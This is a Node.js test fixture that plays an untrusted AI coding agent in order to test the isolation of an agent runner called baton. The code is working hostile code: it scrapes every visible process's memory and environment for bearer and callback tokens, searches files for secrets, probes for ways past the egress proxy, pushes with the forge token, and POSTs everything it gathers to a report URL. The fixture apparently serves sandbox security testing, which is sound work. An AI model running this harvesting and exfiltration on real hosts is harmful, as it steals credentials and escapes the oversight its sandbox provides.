#!/usr/bin/env node
// A hostile agent that goes for the network (issue: "the agent is untrusted"): it tries every way
// out of its run that an agent on baton's host found, reports what answered, then ends like
// Claude Code (stream-json result).
//
//   node network-spy.mjs --targets <file.json>
//
// targets: {
//   direct: string[]          host:port to open a TCP connection to, bypassing any proxy
//                             (the database, baton's port, a loopback service, cloud metadata)
//   viaProxy: string[]        host:port to CONNECT to through $https_proxy (the egress gate)
//   viaProxyHttp: string[]    absolute http:// URLs to GET through $http_proxy
//   paths: string[]           files and directories to read (another run's workspace)
//   reportUrl: string         where to POST the report, through $http_proxy (an allowed host)
//   hangIssues?: string[]     ISSUE_NUMBERs for which it is a harmless victim that waits until stopped
//   needles?: string[]        secrets that must be out of its reach (the bots' tokens): looked for in
//                             its environment, every visible process's environ, cmdline and memory,
//                             and every file under $HOME, the working directory (.git included), /tmp
//                             and /run
//   forge?: {                 through $GITEA_URL (the forge gateway) with $GITEA_TOKEN:
//     api: { name, method, path, body? }[]   requests, path relative to $GITEA_URL
//     pushes: { name, ref }[]                a commit of its own pushed to each ref, in order
//   }
//   usage?: object            merged into its result message (usage, total_cost_usd): what it claims
// }
//
// Also: /proc/<ppid>/mem and every visible process's memory, searched for bearer tokens (the
// runner's CALLBACK_TOKEN); what the working directory holds (the clone).
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import http from 'node:http';
import net from 'node:net';

const args = process.argv.slice(2);
const targetsFile = path.resolve(args[args.indexOf('--targets') + 1]);
const targets = JSON.parse(fs.readFileSync(targetsFile, 'utf8'));
const session = 'network-spy';
const emit = (m) => process.stdout.write(`${JSON.stringify(m)}\n`);
emit({ type: 'system', subtype: 'init', session_id: session, cwd: process.cwd(), tools: [], model: 'spy' });

if ((targets.hangIssues ?? []).includes(process.env.ISSUE_NUMBER ?? '')) {
  setInterval(() => {}, 1 << 30);
} else {
  const report = await spy();
  if (targets.forge) report.forge = await attackForge(targets.forge);
  if (targets.needles) report.secrets = hunt(targets.needles);
  const status = await post(targets.reportUrl, JSON.stringify(report)).catch((err) => String(err));
  emit({
    type: 'result',
    subtype: 'success',
    is_error: false,
    num_turns: 1,
    session_id: session,
    result: `spy reported: ${status}`,
    ...(targets.usage ?? {}),
  });
}

async function spy() {
  const report = { env: {}, direct: [], viaProxy: [], viaProxyHttp: [], reads: [], memory: [], tokens: [], cwd: process.cwd(), files: [] };
  for (const key of ['HTTPS_PROXY', 'HTTP_PROXY', 'NO_PROXY', 'GITEA_URL', 'GITEA_TOKEN', 'CALLBACK_URL'])
    report.env[key] = process.env[key] ?? null;
  try {
    report.files = fs.readdirSync(process.cwd());
  } catch (err) {
    report.files = [String(err)];
  }
  for (const target of targets.direct ?? []) report.direct.push({ target, ...(await tcp(target)) });
  for (const target of targets.viaProxy ?? []) report.viaProxy.push({ target, ...(await connectVia(target)) });
  for (const url of targets.viaProxyHttp ?? []) report.viaProxyHttp.push({ url, ...(await getVia(url)) });
  for (const target of targets.paths ?? []) {
    try {
      const stat = fs.statSync(target);
      report.reads.push({
        target,
        ok: true,
        text: stat.isDirectory() ? fs.readdirSync(target).join(',') : fs.readFileSync(target, 'latin1').slice(0, 200),
      });
    } catch (err) {
      report.reads.push({ target, ok: false, error: err.code ?? String(err) });
    }
  }
  const tokens = new Set();
  const pids = new Set([
    process.ppid,
    ...fs
      .readdirSync('/proc')
      .filter((e) => /^\d+$/.test(e))
      .map(Number),
  ]);
  pids.delete(process.pid);
  for (const pid of pids) report.memory.push({ pid, ...scanMemory(pid, tokens) });
  report.tokens = [...tokens];
  return report;
}

/** The forge through the gateway: API requests and pushes, each with what answered. */
async function attackForge(forge) {
  const base = process.env.GITEA_URL;
  const auth = { authorization: `token ${process.env.GITEA_TOKEN}` };
  const api = [];
  for (const call of forge.api ?? []) {
    const body = call.body === undefined ? undefined : JSON.stringify(call.body);
    const answer = await request(`${base}${call.path}`, call.method, body, auth).catch((err) => ({ status: 0, body: String(err) }));
    api.push({ name: call.name, ...answer });
  }
  const pushes = [];
  const git = (...a) => spawnSync('git', a, { encoding: 'utf8' });
  fs.writeFileSync('spy.txt', `spy was here ${Date.now()}\n`);
  git('add', 'spy.txt');
  const commit = git('commit', '-q', '-m', 'spy');
  for (const { name, ref } of forge.pushes ?? []) {
    const r = git('push', 'origin', `HEAD:${ref}`);
    pushes.push({ name, ref, ok: r.status === 0, output: `${commit.stderr ?? ''}${r.stdout}${r.stderr}`.slice(-600) });
  }
  return { api, pushes };
}

/**
 * Looks for each needle wherever this process can read: its environment, the environ, cmdline
 * and memory of every process it sees, and files under the places a secret might be left.
 */
function hunt(needles) {
  const found = [];
  const scanned = { processes: 0, files: 0, memoryBytes: 0 };
  const look = (where, text) => {
    needles.forEach((needle, i) => {
      if (text.includes(needle)) found.push({ where, needle: i });
    });
  };
  look('env', JSON.stringify(process.env));
  for (const pid of fs.readdirSync('/proc').filter((e) => /^\d+$/.test(e))) {
    for (const file of ['environ', 'cmdline']) {
      try {
        look(`/proc/${pid}/${file}`, fs.readFileSync(`/proc/${pid}/${file}`, 'latin1'));
        scanned.processes++;
      } catch {
        // Not ours to read.
      }
    }
    if (Number(pid) !== process.pid) {
      const seen = new Set();
      const result = scanMemory(Number(pid), seen, needles);
      scanned.memoryBytes += result.bytes ?? 0;
      for (const i of result.hits ?? []) found.push({ where: `/proc/${pid}/mem`, needle: i });
    }
  }
  const roots = [process.env.HOME, process.cwd(), '/tmp', '/run'].filter(Boolean);
  const walk = (dir, depth) => {
    let entries;
    try {
      entries = fs.readdirSync(dir, { withFileTypes: true });
    } catch {
      return;
    }
    for (const entry of entries) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory() && depth < 8) walk(full, depth + 1);
      else if (entry.isFile() && full !== targetsFile) {
        // (Its own targets file holds the needles: the test put them there, not baton.)
        try {
          if (fs.statSync(full).size > 4 * 1024 * 1024) continue;
          look(full, fs.readFileSync(full, 'latin1'));
          scanned.files++;
        } catch {
          // Unreadable.
        }
      }
    }
  };
  for (const root of roots) walk(root, 0);
  return { found, scanned };
}

function parse(target) {
  const m = /^(?:\[([^\]]+)\]|([^:]+)):(\d+)$/.exec(target);
  return { host: m[1] ?? m[2], port: Number(m[3]) };
}

/** A direct TCP connection: { connected, error? }. */
function tcp(target) {
  return new Promise((resolve) => {
    const socket = net.connect(parse(target));
    const done = (result) => {
      socket.destroy();
      resolve(result);
    };
    socket.setTimeout(3000, () => done({ connected: false, error: 'timeout' }));
    socket.once('connect', () => done({ connected: true }));
    socket.once('error', (err) => done({ connected: false, error: err.code ?? String(err) }));
  });
}

/** CONNECT through $https_proxy: { status, body }. */
function connectVia(target) {
  const proxy = process.env.https_proxy ? new URL(process.env.https_proxy) : null;
  if (!proxy) return Promise.resolve({ status: 0, body: 'no proxy' });
  return new Promise((resolve) => {
    const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: target });
    // Node hands over the socket for any answer to CONNECT; a refusal's body follows on it.
    req.on('connect', (res, socket, head) => {
      if (res.statusCode === 200) {
        socket.destroy();
        resolve({ status: 200, body: '' });
        return;
      }
      let body = head.toString();
      socket.on('data', (c) => (body += c));
      socket.on('error', () => {});
      socket.on('close', () => resolve({ status: res.statusCode, body }));
    });
    req.on('response', (res) => {
      let body = '';
      res.on('data', (c) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode, body }));
    });
    req.on('error', (err) => resolve({ status: 0, body: String(err) }));
    req.end();
  });
}

function getVia(url) {
  return request(url, 'GET').then(
    (r) => r,
    (err) => ({ status: 0, body: String(err) }),
  );
}

function post(url, text) {
  return request(url, 'POST', text).then((r) => r.status);
}

/** An absolute-URI request through $http_proxy, as curl and git send one. */
function request(url, method, body, extraHeaders = {}) {
  const proxy = new URL(process.env.http_proxy);
  const target = new URL(url);
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        host: proxy.hostname,
        port: proxy.port,
        method,
        path: target.href,
        headers: {
          host: target.host,
          'content-type': 'application/json',
          ...extraHeaders,
          ...(body ? { 'content-length': Buffer.byteLength(body) } : {}),
        },
      },
      (res) => {
        let text = '';
        res.on('data', (c) => (text += c));
        res.on('end', () => resolve({ status: res.statusCode, body: text.slice(0, 400) }));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

/** Opens /proc/<pid>/mem as a debugger would and looks for bearer tokens (and any needles: `hits`, their indexes). */
function scanMemory(pid, tokens, needles = []) {
  let maps;
  try {
    maps = fs.readFileSync(`/proc/${pid}/maps`, 'latin1');
  } catch (err) {
    return { ok: false, error: err.code ?? String(err) };
  }
  let fd;
  try {
    fd = fs.openSync(`/proc/${pid}/mem`, 'r');
  } catch (err) {
    return { ok: false, error: err.code ?? String(err) };
  }
  let bytes = 0;
  const hits = new Set();
  try {
    for (const line of maps.split('\n')) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) rw-p/.exec(line);
      if (!m) continue;
      const start = parseInt(m[1], 16);
      const length = Math.min(parseInt(m[2], 16) - start, 64 * 1024 * 1024);
      if (bytes > 256 * 1024 * 1024) break;
      const buffer = Buffer.alloc(length);
      try {
        const n = fs.readSync(fd, buffer, 0, length, start);
        bytes += n;
        const text = buffer.toString('latin1', 0, n);
        for (const t of text.matchAll(/(?:CALLBACK_TOKEN=|Bearer )([A-Za-z0-9_-]{20,})/g)) tokens.add(t[1]);
        needles.forEach((needle, i) => text.includes(needle) && hits.add(i));
      } catch {
        // Unreadable region.
      }
    }
  } finally {
    fs.closeSync(fd);
  }
  return { ok: true, bytes, hits: [...hits] };
}
